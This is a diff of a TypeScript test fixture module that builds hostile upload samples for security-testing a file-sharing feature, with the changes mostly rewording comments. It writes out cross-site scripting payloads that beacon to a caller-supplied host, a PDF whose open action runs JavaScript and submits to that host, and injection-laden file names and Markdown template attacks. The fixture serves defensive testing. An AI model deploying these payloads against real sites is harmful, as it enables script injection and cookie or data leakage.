@@ -1,11 +1,11 @@
 import type { Sample } from '@/testing/people/shared-files';
 
-/** What a file that acts would do, on whatever page it gets to act: call home, call us, ask, leave a mark. */
+/** A script that calls home, calls our API, opens a dialog and leaves marks. */
 export const deed = (home: string) =>
   `try{fetch('/app/deed');fetch('${home}/deed');new Image().src='${home}/deed.png';localStorage.setItem('deed','done');` +
   `top.document.title='deed';document.cookie='deed=done'}catch{}alert('deed')`;
 
-/** Files of every kind that browsers or their helpers have ever acted on. */
+/** Files of every kind that browsers or their plugins have ever executed. */
 export function activeFiles(home: string): Sample[] {
   const js = deed(home);
   const script = `<script>${js}</script>`;
@@ -56,7 +56,6 @@ export function activeFiles(home: string): Sample[] {
   return kinds.map(([name, type, content]) => ({ name, type, bytes: Buffer.from(content), path: 'active' }));
 }
 
-/** Opens itself with a script and an address to go to. */
 function activePdf(home: string): string {
   const objects = [
     `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert('deed'); this.submitForm('${home}/deed');) >> /AA << /WC << /S /URI /URI (${home}/deed) >> >> >>`,
@@ -72,7 +71,7 @@ function activePdf(home: string): string {
   return `${pdf}xref\n0 4\n0000000000 65535 f \n${offsets.join('')}trailer << /Size 4 /Root 1 0 R >>\nstartxref\n${pdf.length}\n%%EOF`;
 }
 
-/** Names that were somebody's undoing: as markup, as a path, as a header, as a command, as a formula. */
+/** Names that have broken markup, paths, headers, commands or spreadsheets. */
 const hostileNames = [
   '<img src=x onerror=alert(1)>.png',
   '"><script>alert(1)</script>.txt',
@@ -115,7 +114,7 @@ const hostileNames = [
 export const oddlyNamed = (): Sample[] =>
   hostileNames.map((name) => ({ name, type: 'text/plain', bytes: Buffer.from('harmless'), path: 'named' }));
 
-/** A note that tries every way in that Markdown and its templates have had. */
+/** A note with known attacks on Markdown and template engines. */
 export const hostileNote = (home: string) =>
   [
     `<script>${deed(home)}</script>`,
